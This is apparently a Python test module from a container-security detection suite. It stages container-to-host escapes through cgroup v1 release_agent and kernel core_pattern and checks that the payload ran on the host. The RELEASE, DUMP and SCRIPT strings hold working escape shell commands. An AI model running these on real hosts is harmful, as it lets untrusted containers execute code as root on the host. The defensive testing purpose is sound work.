"""Escapes by making the kernel run a program on the host: release_agent and core_pattern, to their payload's end.

The payload lies in the container's writable layer, which the host sees at the overlay's `upperdir`; a container reads
that path in its own mount table. What is changed on the host is put back once the payload has run, also on failure.
"""

import os
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from tests.support.engine import Container
from tests.support.hierarchies import end_hierarchy
from tests.support.processes import (
    arguments,
    cgroups,
    file_id,
    is_alive,
    mount_ids,
    parent,
    require,
    shares_namespace,
    status,
    wait_until,
)
from tests.support.stage import (
    CRITICAL,
    TOOLS,
    Act,
    CannotHereError,
    Expected,
    Outcome,
    Stage,
    needs_hierarchy,
    unique_name,
)

CORE_PATTERN = Path("/proc/sys/kernel/core_pattern")
CONTROLLERS = ("pids", "memory", "freezer", "devices")
FIND_UPPER = "sed -n '/ - overlay /{s/.*upperdir=\\([^,]*\\).*/\\1/p;q}' /proc/self/mountinfo"
SCRIPT = r"""printf '#!/bin/sh\necho $$ $PPID > "$0.ran"; sleep 3\n' > /payload; chmod 755 /payload"""
SCRIPT_PAYLOAD = f"{SCRIPT}; upper=$({FIND_UPPER})"
BINARY_PAYLOAD = f"cp {TOOLS}/payload /payload; upper=$({FIND_UPPER})"
RELEASE = """
mkdir /tmp/hierarchy; mount -t cgroup -o "$1" hierarchy /tmp/hierarchy; mkdir "/tmp/hierarchy/$2"
echo 1 > "/tmp/hierarchy/$2/notify_on_release"; echo "$upper/payload" > /tmp/hierarchy/release_agent
sh -c 'echo 0 > "$0"' "/tmp/hierarchy/$2/cgroup.procs"
"""
DUMP = f"""
mount -o remount,rw /proc/sys; echo "|$upper/payload" > /proc/sys/kernel/core_pattern
# The dying process waits for its handler, so it dies in the background.
{TOOLS}/crash > /dev/null 2>&1 &
"""


@contextmanager
def release_agent_binary(stage: Stage) -> Iterator[Outcome]:
    """A cgroup of version 1 that empties makes the kernel run a program of the container on the host."""
    with _released(stage, BINARY_PAYLOAD) as outcome:
        require(file_id(f"/proc/{outcome.pids[0]}/exe") == file_id(outcome.text), "its program is not the payload")
        yield outcome


@contextmanager
def release_agent_script(stage: Stage) -> Iterator[Outcome]:
    """The same with a shell script: the program that runs is the host's own shell, the file is the container's."""
    with _released(stage, SCRIPT_PAYLOAD) as outcome:
        require(outcome.text in arguments(outcome.pids[0]), "it does not run the payload")
        yield outcome


@contextmanager
def release_agent_of_named_hierarchy(stage: Stage) -> Iterator[Outcome]:
    """The same where version 2 has all controllers: a hierarchy of version 1 needs none, only a name (cgroups(7)).

    A new hierarchy is made from the first cgroup namespace only (cgroup1_root_to_use(), kernel/cgroup/cgroup-v1.c).
    """
    name = unique_name()
    try:
        with stage.capable("--cgroupns=host") as container:
            stage.shell(container, BINARY_PAYLOAD + RELEASE, f"none,name={name}", name)
            outcome = _ran(container)
            stage.shell(container, 'rmdir "/tmp/hierarchy/$1"', name)
            yield outcome
    finally:
        end_hierarchy(name)


@contextmanager
def core_pattern_binary(stage: Stage) -> Iterator[Outcome]:
    """The core dump handler is made a program of the container, which then crashes on purpose."""
    with _dumped(stage, BINARY_PAYLOAD) as outcome:
        require(file_id(f"/proc/{outcome.pids[0]}/exe") == file_id(outcome.text), "its program is not the payload")
        yield outcome


@contextmanager
def core_pattern_script(stage: Stage) -> Iterator[Outcome]:
    """The same with a shell script."""
    with _dumped(stage, SCRIPT_PAYLOAD) as outcome:
        require(outcome.text in arguments(outcome.pids[0]), "it does not run the payload")
        yield outcome


@contextmanager
def _released(stage: Stage, payload: str) -> Iterator[Outcome]:
    hierarchy = _free_hierarchy()
    agent, group = hierarchy / "release_agent", hierarchy / unique_name()
    before = agent.read_text()
    with stage.capable() as container:
        try:
            stage.shell(container, payload + RELEASE, hierarchy.name, group.name)
            outcome = _ran(container)
        finally:
            # An empty write is refused by the kernel; a line end alone clears the value.
            agent.write_text(before or "\n")
            if group.is_dir():
                group.rmdir()
        yield outcome


def _free_hierarchy() -> Path:
    for controller in CONTROLLERS:
        hierarchy = needs_hierarchy(controller)
        if not (hierarchy / "release_agent").read_text().strip():
            return hierarchy
    raise CannotHereError("every cgroup v1 hierarchy has a release agent of its own")


@contextmanager
def _dumped(stage: Stage, payload: str) -> Iterator[Outcome]:
    before = CORE_PATTERN.read_text()
    with stage.capable() as container:
        try:
            stage.shell(container, payload + DUMP)
            outcome = _ran(container)
        finally:
            CORE_PATTERN.write_text(before)
        yield outcome


def _ran(container: Container) -> Outcome:
    """Wait for the payload's mark in the container's layer; the process that left it must be one of the host."""
    root = next(line for line in mount_ids(container.pid).values() if line.split(" ")[4] == "/")
    payload = Path(root.split("upperdir=", 1)[1].split(",", 1)[0]) / "payload"
    mark = Path(f"{payload}.ran")
    words = wait_until(lambda: mark.read_text().split() if mark.exists() else [], "the payload's run on the host")
    pid, reported_parent = int(words[0]), int(words[1])
    require(is_alive(pid), f"the payload {pid} has ended already")
    require(all(shares_namespace(pid, kind) for kind in ("mnt", "pid", "net", "user")), "it is not in the host")
    require(container.id not in "".join(cgroups(pid).values()), "it is in the container's cgroup")
    require(os.path.exists(f"/proc/{container.pid}/root/payload.ran"), "the container does not see its payload's mark")
    require(parent(pid) == reported_parent, "its parent changed")
    require(status(parent(pid)).get("Kthread", "1") == "1", f"its parent {parent(pid)} is no kernel thread")
    return Outcome(container.id, (pid,), text=str(payload))


EXPECTED = (Expected("HW-114", CRITICAL), Expected("HW-208", CRITICAL, names_container=False))

ACTS = (
    Act("release_agent_binary", release_agent_binary, (*EXPECTED, Expected("HW-112", CRITICAL)), weakest="netlink"),
    Act("release_agent_script", release_agent_script, (EXPECTED[1],), weakest="netlink"),
    Act(
        "release_agent_of_named_hierarchy",
        release_agent_of_named_hierarchy,
        (*EXPECTED, Expected("HW-112", CRITICAL)),
        weakest="netlink",
    ),
    Act("core_pattern_binary", core_pattern_binary, EXPECTED, weakest="netlink"),
    Act("core_pattern_script", core_pattern_script, (EXPECTED[1],), weakest="netlink"),
)
